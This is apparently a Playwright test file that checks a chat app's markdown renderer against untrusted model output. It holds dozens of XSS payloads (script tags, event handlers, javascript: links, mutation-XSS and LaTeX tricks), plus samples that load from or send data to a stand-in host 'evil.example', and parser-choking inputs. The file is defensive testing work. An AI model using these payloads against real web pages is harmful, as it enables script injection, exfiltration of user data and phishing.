"""Model text is untrusted: none of these samples runs anything, styles anything or sends anything anywhere.

They come as a streamed reply, as stored text after a reload, as a bot's name and as a title.
"""

import pytest
from playwright.sync_api import expect

from .conftest import go_to, say, wait_until_quiet

pytestmark = pytest.mark.browser

RUN = "window.__ran=1"
SAMPLES = [
    f"<script>{RUN}</script>",
    f'<img src=x onerror="{RUN}">',
    f'<svg onload="{RUN}"></svg>',
    f"<svg><script>{RUN}</script></svg>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    '<iframe src="https://evil.example/frame"></iframe>',
    f'<a href="javascript:{RUN}">press</a>',
    f"[press](javascript:{RUN})",
    f"[press](JaVaScRiPt:{RUN})",
    f"[press](&#106;avascript:{RUN})",
    f"[press](java\tscript:{RUN})",
    f"[press]( javascript:{RUN} )",
    f"[press](data:text/html,<script>{RUN}</script>)",
    f"[press](vbscript:{RUN})",
    f"<javascript:{RUN}>",
    f"[press][r]\n\n[r]: javascript:{RUN}",
    f'![x](https://evil.example/p.png?q=secret "onerror={RUN}")',
    "![x](https://evil.example/pixel.png)",
    "![x](//evil.example/pixel.png)",
    "![x](/api/sessions)",
    "[![x](https://evil.example/p.png)](https://evil.example/)",
    "<img src=https://evil.example/pixel.png>",
    "<link rel=stylesheet href=https://evil.example/a.css>",
    "<style>@import url(https://evil.example/a.css); body{display:none}</style>",
    "<style>#messages{display:none}</style>",
    '<div style="position:fixed;inset:0;background:url(https://evil.example/b)">cover</div>',
    '<meta http-equiv=refresh content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    "<form action=https://evil.example/><input name=q autofocus><button>send</button></form>",
    "<object data=https://evil.example/o></object><embed src=https://evil.example/e>",
    "<video poster=https://evil.example/v.png src=https://evil.example/v.mp4 autoplay></video>",
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
    f'<details open ontoggle="{RUN}">x</details>',
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>',
    f'<svg><a xlink:href="javascript:{RUN}"><text y=20>x</text></a></svg>',
    f"<svg><use href=\"data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>{RUN}</script></svg>#x\"/></svg>",
    f"<template><script>{RUN}</script></template>",
    "<a id=text name=text>clobber</a><img name=body><form id=messages></form>",
    f"```html\n<script>{RUN}</script>\n```",
    f'```"><img src=x onerror={RUN}>\nx\n```',
    f"`<img src=x onerror={RUN}>`",
    f"| a |\n|---|\n| <img src=x onerror={RUN}> |",
    f"# <img src=x onerror={RUN}>",
    f"> <script>{RUN}</script>",
    f"\\<img src=x onerror={RUN}\\>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"<script>{RUN}",
    f"<<script>{RUN}//<</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"\u202e<script>{RUN}</script>",
    f'<https://evil.example/"onmouseover="{RUN}>',
    f'https://evil.example/"onmouseover="{RUN}',
    f'[x](https://evil.example/ "t" onmouseover={RUN})',
    f"\\(\\href{{javascript:{RUN}}}{{x}}\\)",
    "$$\\includegraphics{https://evil.example/p.png}$$",
    f"\\(\\htmlStyle{{position: fixed; inset: 0}}{{x}} \\htmlData{{on=1}}{{x}} \\url{{javascript:{RUN}}}\\)",
    f"$$\\text{{<img src=x onerror={RUN}>}} \\verb|<script>{RUN}</script>|$$",
    "\\[\\color{url(https://evil.example/c)} x \\def\\a{\\a\\a} \\a\\]",
    f"\\(x</math><img src=x onerror={RUN}>\\)",
]
PLACES = ["{}", "> - {}", "| a | {} |\n|---|---|\n| {} | b |", "**{}", "```\n{}\n```\n\n{}"]
ALLOWED = {
    "A",
    "BLOCKQUOTE",
    "BR",
    "BUTTON",
    "CODE",
    "DEL",
    "DIV",
    "EM",
    "H3",
    "HR",
    "LI",
    "OL",
    "P",
    "PRE",
    "SPAN",
    "STRONG",
    "TABLE",
    "TBODY",
    "TD",
    "TH",
    "THEAD",
    "TR",
    "UL",
    *["math", "mfrac", "mi", "mn", "mo", "mrow", "mspace", "mstyle", "msub", "msup", "mtext", "semantics"],
}
ATTRIBUTES = {
    "align",
    "aria-label",
    "class",
    "dir",
    "display",
    "href",
    "rel",
    "role",
    "start",
    "tabindex",
    "target",
    "title",
    "type",
}


def assert_harmless(page):
    assert page.evaluate("window.__ran") is None
    found = page.evaluate("""() => [...document.querySelectorAll(".md *")].map((one) =>
      [one.tagName, [...one.attributes].map((attribute) => attribute.name), one.getAttribute("href")])""")
    for tag, attributes, href in found:
        assert tag in ALLOWED, tag
        assert set(attributes) <= ATTRIBUTES, (tag, attributes)
        assert href is None or href.startswith(("https://", "http://", "mailto:")), href


def test_streamed_samples_run_nothing_and_send_nothing(page, open_session, site):
    """Each sample is a reply of its own, then all of them are loaded again as stored text."""
    open_session()
    for sample in SAMPLES:
        site.model.scripts.append(sample)
        say(page, "next")
        wait_until_quiet(page)
        assert_harmless(page)
    page.reload()
    wait_until_quiet(page)
    expect(page.locator(".from-bot")).not_to_have_count(0)
    assert_harmless(page)
    page.wait_for_timeout(200)
    assert page.evaluate("window.__ran") is None


def test_samples_in_every_place_do_nothing_either_however_they_are_cut(page, site):
    """Some 300 texts, each grown in pieces and then shown whole, straight through the module."""
    payloads = [place.replace("{}", sample) for sample in SAMPLES for place in PLACES]
    assert len(payloads) >= 280
    go_to(page)
    page.evaluate(
        """async (payloads) => {
          const app = document.querySelector("script[type=module]").src;
          const { MarkdownView } = await import(new URL("./markdown.js", app));
          const place = document.querySelector("#messages");
          for (const text of payloads) {
            const root = document.createElement("div");
            root.className = "md";
            place.append(root);
            const view = new MarkdownView(root);
            for (let end = 3; end < text.length; end += 7) view.grow(text.slice(0, end));
            view.show(text);
          }
        }""",
        payloads,
    )
    assert page.locator("#messages > .md").count() == len(payloads)
    page.wait_for_timeout(300)  # what would be loaded or run has had its time
    assert_harmless(page)


def test_html_is_shown_as_the_text_that_it_is(page, open_session, site):
    open_session()
    site.model.scripts.append("Use <b>bold</b> & <script>alert(1)</script> here.\n\n<div>block</div>")
    say(page, "go")
    wait_until_quiet(page)
    paragraphs = page.locator(".from-bot .md > p")
    expect(paragraphs).to_have_text(["Use <b>bold</b> & <script>alert(1)</script> here.", "<div>block</div>"])


def test_a_link_says_where_it_leads_and_opens_without_a_way_back(page, open_session, site):
    open_session()
    site.model.scripts.append(
        "[your bank](https://evil.example/login) https://plain.example/x [mail](mailto:a@b.example)"
    )
    say(page, "go")
    wait_until_quiet(page)
    expect(page.locator(".from-bot .md a")).to_have_text(
        ["your bank (evil.example)", "https://plain.example/x", "mail (a@b.example)"]
    )
    link = page.locator(".from-bot .md a").first
    assert link.get_attribute("rel") == "noopener noreferrer nofollow"
    assert link.get_attribute("title") == "https://evil.example/login"


def test_names_titles_and_errors_are_text_too(page, site):
    sample = f"<img src=x onerror={RUN}>"
    bot = site.api(
        "POST",
        "/api/bots",
        {"name": sample, "color": "#123456", "persona": sample, "greeting": sample, "sampling": {}},
    )["bot"]
    session_id = site.session(bot["id"], title=sample, system_prompt=sample, user_name="<b>me</b>")
    go_to(page, session_id)
    say(page, "fail")
    wait_until_quiet(page)
    for tab in ("session", "bot", "model", "sampling"):
        page.click(f"#tab-{tab}")
    page.click(f"[href='./#{session_id}'] + .session-more", force=True)
    page.keyboard.press("Escape")
    assert page.evaluate("window.__ran") is None
    assert page.locator("img").count() == 0
    site.api("DELETE", f"/api/bots/{bot['id']}")


@pytest.mark.parametrize(
    "text",
    [
        "> " * 4000 + "deep",
        "- " * 3000 + "x",
        "[" * 20_000,
        "*" * 20_000,
        "`" * 20_000,
        "<" * 20_000,
        "| a " * 2000 + "|\n" + "|---" * 2000 + "|",
    ],
    ids=["quotes", "lists", "brackets", "stars", "ticks", "angles", "columns"],
)
def test_text_that_is_made_to_choke_a_parser_is_shown(page, site, text):
    go_to(page, site.import_path(["Hello", text, "and after"]))
    expect(page.locator(".from-user .md").last).to_have_text("and after")
    expect(page.locator(".from-bot .md > *")).not_to_have_count(0)
